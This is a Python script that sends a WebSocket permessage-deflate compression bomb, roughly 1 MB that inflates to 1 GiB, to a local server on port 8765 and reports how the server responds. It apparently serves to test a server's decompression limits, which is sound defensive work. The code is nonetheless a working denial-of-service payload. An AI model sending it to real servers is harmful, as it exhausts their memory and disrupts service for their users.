#!/usr/bin/env python3
"""A compression bomb: one message of 1 MB that becomes 1 GiB. Usage: python3 bomb.py [MIB]

It compresses MIB times 1,048,576 zeros (1024 times if not given), sends them in one frame to the server on port 8765, and shows
what comes back. Send it to your own server only.
"""

import socket
import struct
import sys
import zlib

REQUEST = (
    b"GET /echo HTTP/1.1\r\nHost: localhost:8765\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
)
# The end of each message, which is not sent.
END = b"\x00\x00\xff\xff"


def compressed(mebibytes):
    """Compresses zeros, and then forgets them, so that the result can stand anywhere in a message."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = b"".join(compressor.compress(bytes(1 << 20)) for _ in range(mebibytes))
    return data + compressor.flush(zlib.Z_FULL_FLUSH)


def bomb(mebibytes):
    """Returns a compressed message. To save time, it compresses 64 MiB and repeats the result."""
    often, rest = divmod(mebibytes, 64)
    data = (compressed(64) * often if often else b"") + (compressed(rest) if rest else b"")
    return data.removesuffix(END)


def frame(data):
    """Returns a binary frame of a client, with RSV1. Its key is four zeros, which change nothing."""
    length = len(data)
    if length < 126:
        header = struct.pack(">BB", 0xC2, 0x80 | length)
    elif length < 65536:
        header = struct.pack(">BBH", 0xC2, 0x80 | 126, length)
    else:
        header = struct.pack(">BBQ", 0xC2, 0x80 | 127, length)
    return header + bytes(4) + data


def read(server, count):
    """Reads this many bytes, or fewer if the connection closes."""
    data = b""
    while len(data) < count and (piece := server.recv(count - len(data))):
        data += piece
    return data


def main():
    try:
        mebibytes = int(sys.argv[1]) if len(sys.argv) > 1 else 1024
    except ValueError:
        mebibytes = 0
    if mebibytes < 1:
        sys.exit(__doc__)
    data = bomb(mebibytes)
    print(f"{mebibytes << 20} bytes are {len(data)} now, 1 to {(mebibytes << 20) // len(data)}")
    with socket.create_connection(("localhost", 8765)) as server:
        server.sendall(REQUEST)
        head = b""
        while not head.endswith(b"\r\n\r\n") and (byte := server.recv(1)):
            head += byte
        if b"permessage-deflate" not in head:
            sys.exit("the server has not agreed to compress: start it with --deflate on")
        server.sendall(frame(data))
        first, length = read(server, 2)
        if length > 125:
            length = int.from_bytes(read(server, 2 if length == 126 else 8), "big")
        payload = read(server, length)
    if first & 15 == 8:
        print(f"the server closes: {int.from_bytes(payload[:2], 'big')} {payload[2:].decode()}")
    else:
        print(f"the server sends a message of {length} bytes back")


if __name__ == "__main__":
    try:
        main()
    except OSError as error:
        sys.exit(f"port 8765: {error}")
